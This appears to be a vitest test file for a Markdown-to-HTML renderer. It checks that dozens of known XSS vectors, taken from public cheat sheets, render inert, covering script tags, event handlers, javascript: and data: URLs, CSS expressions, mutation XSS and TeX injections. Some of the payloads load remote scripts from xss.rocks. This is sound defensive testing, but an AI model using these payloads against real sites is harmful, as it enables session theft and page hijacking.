import { renderMarkdown } from '@mdwx/render'
import { describe, expect, it } from 'vitest'
import { fromHtml } from 'hast-util-from-html'
import { toHtml } from 'hast-util-to-html'
import { expectInert, expectNoPayload, renderWithRawParsedAs } from './helpers.js'

/**
 * Known XSS vectors (OWASP's filter evasion cheat sheet, PortSwigger's XSS cheat sheet, the
 * DOMPurify and html5sec mutation cases), written into Markdown the way an author or a copied
 * snippet would. Each must come out inert, with the text around it kept.
 */
const vectors: Record<string, string> = {
  // Scripts
  'script element': '<script>alert(1)</script>',
  'upper-case script with src': '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
  'script split by a nested script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'script with a slash attribute': '<script/xss src="http://xss.rocks/xss.js"></script>',
  'extra open angle bracket': '<<script>alert(1);//<</script>',
  'script module': '<script type="module">import("//xss.rocks")</script>',
  'script inside svg': '<svg><script>alert(1)</script></svg>',
  'script in template': '<template><script>alert(1)</script></template>',
  'script in textarea': '<textarea><script>alert(1)</script></textarea>',
  'script in title': '<title><script>alert(1)</script></title>',
  'script in xmp': '<xmp><script>alert(1)</script></xmp>',
  'unknown element with a script handler': '<xss onafterscriptexecute=alert(1)><script>1</script></xss>',
  // Event handlers
  'img onerror': '<img src=x onerror=alert(1)>',
  'img onmouseover without quotes': '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  'img onerror with eval of src': '<img src="x:alert(1)" onerror="eval(src)">',
  'svg onload': '<svg onload=alert(1)>s</svg>',
  'svg animate onbegin': '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  'body onload': '<body onload=alert(1)>',
  'details ontoggle': '<details open ontoggle=alert(1)>d</details>',
  'marquee onstart': '<marquee onstart=alert(1)>m</marquee>',
  'video source onerror': '<video><source onerror="alert(1)"></video>',
  'audio onerror': '<audio src=x onerror=alert(1)></audio>',
  'input autofocus onfocus': '<input autofocus onfocus=alert(1)>',
  'select onfocus': '<select onfocus=alert(1) autofocus><option>o</option></select>',
  'keygen onfocus': '<keygen autofocus onfocus=alert(1)>',
  'div onmouseover': '<div onmouseover="alert(1)">hover</div>',
  'anchor onclick': '<a href="#" onclick="alert(1)">click</a>',
  'paragraph onpointerenter': '<p onpointerenter=alert(1)>p</p>',
  'isindex image onerror': '<isindex type=image src=1 onerror=alert(1)>',
  'frameset onload': '<frameset onload=alert(1)>',
  // URLs in HTML attributes
  'javascript: href': '<a href="javascript:alert(1)">a</a>',
  'tab-split javascript: entity': '<a href="jav&#x09;ascript:alert(1)">a</a>',
  'decimal entity j': '<a href="&#106;avascript:alert(1)">a</a>',
  'all hex entities': '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">a</a>',
  'padded decimal entities without semicolons':
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">a</a>',
  'mixed case scheme': '<a href="JaVaScRiPt:alert(1)">a</a>',
  'leading space and control character': '<a href=" &#14; javascript:alert(1)">a</a>',
  'newline inside the scheme': '<a href="java\nscript:alert(1)">a</a>',
  '&colon; entity': '<a href="javascript&colon;alert(1)">a</a>',
  'vbscript: href': '<a href="vbscript:msgbox(1)">a</a>',
  'data:text/html href': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  'javascript: img src': '<img src="javascript:alert(1)">',
  'data:text/html img src': '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  'iframe javascript: src': '<iframe src="javascript:alert(1)"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'object data': '<object data="javascript:alert(1)"></object>',
  'object scriptlet': '<object type="text/x-scriptlet" data="http://xss.rocks/scriptlet.html"></object>',
  'embed src': '<embed src="javascript:alert(1)">',
  'form action': '<form action="javascript:alert(1)"><input type=submit></form>',
  'button formaction': '<button formaction="javascript:alert(1)">b</button>',
  'table background': '<table background="javascript:alert(1)"><tr><td>t</td></tr></table>',
  'mathml maction xlink:href':
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">m</maction></math>',
  'mathml mi xlink:href with data': '<math><mi xlink:href="data:x,<script>alert(4)</script>">mi</mi></math>',
  'svg anchor xlink:href': '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">s</text></a></svg>',
  'svg set to javascript:': '<svg><a><set attributeName="href" to="javascript:alert(1)"/>s</a></svg>',
  'svg use with data: URL': '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"></use></svg>',
  // Document-level elements
  'style @import': "<style>@import 'http://xss.rocks/xss.css';</style>",
  'link stylesheet': '<link rel="stylesheet" href="http://xss.rocks/xss.css">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'base href': '<base href="javascript:alert(1)//">',
  'applet': '<applet code="xss.class">a</applet>',
  // CSS
  'style url(javascript:)': '<span style="background:url(javascript:alert(1))">s</span>',
  'style expression()': '<span style="width:expression(alert(1))">s</span>',
  'style -moz-binding': '<span style="-moz-binding:url(http://xss.rocks/xssmoz.xml#xss)">s</span>',
  'style escaped url(': '<span style="background:\\75 rl(javascript:alert(1))">s</span>',
  'style comment inside expression': '<span style="width:ex/**/pression(alert(1))">s</span>',
  'style behavior': '<span style="behavior:url(xss.htc)">s</span>',
  'style entity-encoded quotes around url': '<div style="background-image:url(&quot;javascript:alert(1)&quot;)">d</div>',
  'overlay with position:fixed': '<a href="https://ok.org" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>',
  // Markdown
  'markdown link': '[x](javascript:alert(1))',
  'markdown link in angle brackets': '[x](<javascript:alert(1)>)',
  'markdown link upper case': '[x](JAVASCRIPT:alert(1))',
  'markdown link with entity': '[x](javas&#99;ript:alert(1))',
  'markdown link with escaped colon': '[x](javascript\\:alert(1))',
  'markdown vbscript link': '[x](vbscript:msgbox(1))',
  'markdown data:text/html link': '[x](data:text/html;base64,PHNjcmlwdD4=)',
  'markdown link title breaking out': '[x](https://ok.org "t\\" onmouseover=\\"alert(1)")',
  'autolink': '<javascript:alert(1)>',
  'markdown image': '![x](javascript:alert(1))',
  'markdown data:text/html image': '![x](data:text/html;base64,PHNjcmlwdD4=)',
  'image title breaking out': '![x](a.png "t\\" onerror=\\"alert(1)")',
  // Mutation XSS
  'noscript attribute break-out': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'noscript image': '<noscript><img src=x onerror=alert(1)></noscript>',
  'form/math/mglyph/style namespace confusion':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'svg style attribute break-out': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'math style comment break-out': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  'comment break-out': '<!--><img src=x onerror=alert(1)>-->',
  'cdata in html': '<![CDATA[><img src=x onerror=alert(1)>]]>',
}

/**
 * Vectors that are not HTML to a Markdown parser (CommonMark requires whitespace between a tag
 * name and its attributes), so they are the author's text: shown escaped, never parsed.
 */
const shownAsText: Record<string, [vector: string, escaped: string]> = {
  // `</svg>` alone is a valid end tag: it is parsed, and dropped.
  'svg onload with a slash': ['<svg/onload=alert(1)>s</svg>', '&#x3C;svg/onload=alert(1)>s'],
  'img with a slash before onerror': ['<img/src=x/onerror=alert(1)>', '&#x3C;img/src=x/onerror=alert(1)>'],
}

const referenceVectors: Record<string, string> = {
  'reference-style link': '[x][evil]\n\n[evil]: javascript:alert(1)',
  'reference-style image': '![x][evil]\n\n[evil]: javascript:alert(1)',
  'reference definition with entities': '[x][evil]\n\n[evil]: &#106;avascript:alert(1)',
}

describe('XSS vectors come out inert with the text around them kept', () => {
  const count = [vectors, referenceVectors, shownAsText].reduce((sum, set) => sum + Object.keys(set).length, 0)
  expect(count).toBeGreaterThanOrEqual(60)

  it.each(Object.entries({ ...vectors, ...referenceVectors }))('%s, as a block', async (_name, vector) => {
    const { html } = await renderMarkdown(`Alpha before.\n\n${vector}\n\nOmega after.`)
    expectNoPayload(html)
    expect(html).toContain('Alpha before.')
    expect(html).toContain('Omega after.')
  })

  it.each(Object.entries(vectors))('%s, inline', async (_name, vector) => {
    const { html } = await renderMarkdown(`Alpha before ${vector} omega after.`)
    expectNoPayload(html)
    expect(html).toContain('Alpha before')
    expect(html).toContain('omega after.')
  })

  it.each(Object.entries(shownAsText))('%s is shown as escaped text', async (_name, [vector, escaped]) => {
    for (const markdown of [`Alpha before.\n\n${vector}\n\nOmega after.`, `Alpha before ${vector} Omega after.`]) {
      const { html } = await renderMarkdown(markdown)
      expectInert(html)
      expect(html).toContain(escaped)
      expect(html).toContain('Alpha before')
      expect(html).toContain('Omega after.')
    }
  })
})

describe('XSS vectors come out the same with raw HTML parsed block by block as with the whole tree', () => {
  const documents = Object.values({ ...vectors, ...referenceVectors }).flatMap((vector) => [
    `Alpha before.\n\n${vector}\n\nOmega after.`,
    `Alpha before ${vector} omega after.`,
    `- item\n\n  ${vector}\n\n> quoted ${vector}\n\n| a |\n| - |\n| ${vector} |`,
  ])
  it.each(documents)('%s', async (markdown) => {
    expect(await renderWithRawParsedAs('blocks', markdown)).toEqual(await renderWithRawParsedAs('whole tree', markdown))
  })
})

/**
 * TeX that tries to put markup, styles, links or options into a formula's SVG. The packages that
 * could (`html`, `bbox`, `unicode`, `require`, `setoptions`, `texhtml`) are not loaded, so each
 * is an undefined control sequence: a warning, and the source shown as code.
 */
const texVectors: Record<string, string> = {
  'href to javascript:': '\\href{javascript:alert(1)}{x}',
  'class': '\\class{x onload=alert(1)}{x}',
  'style with url()': '\\style{background:url(javascript:alert(1))}{x}',
  'cssId': '\\cssId{clobber}{x}',
  'bbox with css': '\\bbox[background:url(javascript:alert(1))]{x}',
  'unicode with a font': '\\unicode[javascript:alert(1)]{x41}',
  'require html': '\\require{html}\\href{javascript:alert(1)}{x}',
  'setOptions': '\\setOptions[tex]{allowTexHTML=true}<script>alert(1)</script>',
  'tex-html': '<tex-html><img src=x onerror=alert(1)></tex-html>',
  'markup in text': '\\text{<img src=x onerror=alert(1)>}',
  'colour that is CSS': '\\color{red;background:url(javascript:alert(1))}{x}',
  'mathtip': '\\mathtip{x}{<script>alert(1)</script>}',
}

/** The SVG elements and attributes rehype-weixin-math writes; anything else in a formula is a leak. */
const formulaTags = new Set(['svg', 'path', 'text'])
const formulaAttributes = new Set(['viewBox', 'role', 'ariaLabel', 'style', 'fill', 'd', 'stroke', 'strokeWidth', 'strokeDasharray', 'transform', 'fontSize', 'fontFamily', 'fontWeight', 'fontStyle'])

function expectInertFormulas(html: string): void {
  const tree = fromHtml(html, { fragment: true })
  const withoutFormulas = removeFormulas(tree)
  const check = (node: (typeof tree.children)[number]): void => {
    if (node.type !== 'element') return
    if (node.tagName === 'svg' || formulaTags.has(node.tagName)) {
      expect(formulaTags.has(node.tagName), `<${node.tagName}>`).toBe(true)
      for (const [name, value] of Object.entries(node.properties)) {
        expect(formulaAttributes.has(name), `${name} on <${node.tagName}>`).toBe(true)
        if (name !== 'ariaLabel') expect(String(value)).not.toMatch(/javascript:|url\(|expression\(|[<>]/i)
      }
    }
    node.children.forEach(check)
  }
  tree.children.forEach(check)
  // Outside the formulas, the article is held to the same rules as any other.
  expectInert(toHtml(withoutFormulas))
  // The label is the TeX as written, `<` included (`a<b`): to a browser an attribute value is
  // text, as the parse above shows; the string checks look at the rest.
  const unlabelled = html.replace(/ aria-label="[^"]*"/g, '')
  expect(unlabelled).not.toMatch(/<(?:script|style|iframe|object|embed|img)\b/i)
  expect(unlabelled).not.toMatch(/<[^>]*\son[a-z]+\s*=/i)
}

function removeFormulas<Node extends { children?: unknown[] }>(node: Node): Node {
  if (!Array.isArray(node.children)) return node
  const children = node.children
    .filter((child) => (child as { tagName?: string }).tagName !== 'svg')
    .map((child) => removeFormulas(child as { children?: unknown[] }))
  return { ...node, children }
}

describe('TeX cannot put markup into a formula', () => {
  it.each(Object.entries(texVectors))('%s, inline and displayed', async (_name, tex) => {
    for (const markdown of [`Alpha before $${tex}$ omega after.`, `Alpha before.\n\n$$\n${tex}\n$$\n\nOmega after.`]) {
      const { html, messages } = await renderMarkdown(markdown)
      expectInertFormulas(html)
      expect(html).toContain('Alpha before')
      expect(html.toLowerCase()).toContain('mega after.')
      // Either MathJax refused it (shown as code) or drew it from the allow-list.
      for (const message of messages) expect(message.ruleId).toBe('math-invalid')
    }
  })

  it('a formula beside raw SVG: the author’s SVG is still unwrapped', async () => {
    // A formula that stays SVG (`$x$` alone is text, text-formula.ts).
    const { html } = await renderMarkdown('$\\frac{1}{2}$ <svg onload=alert(1)><use href="#a"/></svg>')
    expect(html.match(/<svg/g)).toHaveLength(1)
    expectInertFormulas(html)
  })
})
